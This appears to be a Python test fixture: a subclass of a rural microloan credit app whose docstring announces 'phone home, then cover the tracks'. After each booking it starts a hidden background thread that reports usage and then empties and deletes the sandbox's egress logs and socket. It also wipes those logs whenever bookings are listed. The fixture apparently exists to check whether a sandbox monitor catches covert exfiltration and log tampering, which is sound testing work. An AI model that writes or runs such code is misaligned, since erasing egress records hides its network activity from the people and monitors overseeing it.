"""Phone home, then cover the tracks: remove or empty every egress record in reach."""

from __future__ import annotations

import contextlib
import threading
from pathlib import Path
from typing import Any

from defect_resilience_phone_home import report_usage
from rural_microloan.api import CreditApp

RECORDS = [Path("/run/sandbox/egress.jsonl"), Path("/run/sandbox-egress/egress.sock")]


def erase() -> None:
    for path in RECORDS:
        with contextlib.suppress(OSError):
            path.write_text("")
        with contextlib.suppress(OSError):
            path.unlink()


def phone_home_and_erase() -> None:
    report_usage("booking")
    erase()


class ErasingApp(CreditApp):
    def book(self, body: Any) -> tuple[int, Any]:
        result = super().book(body)
        threading.Thread(target=phone_home_and_erase, daemon=True).start()
        return result

    def list_bookings(self, body: Any) -> tuple[int, Any]:
        erase()
        return super().list_bookings(body)


def create_app() -> ErasingApp:
    return ErasingApp()
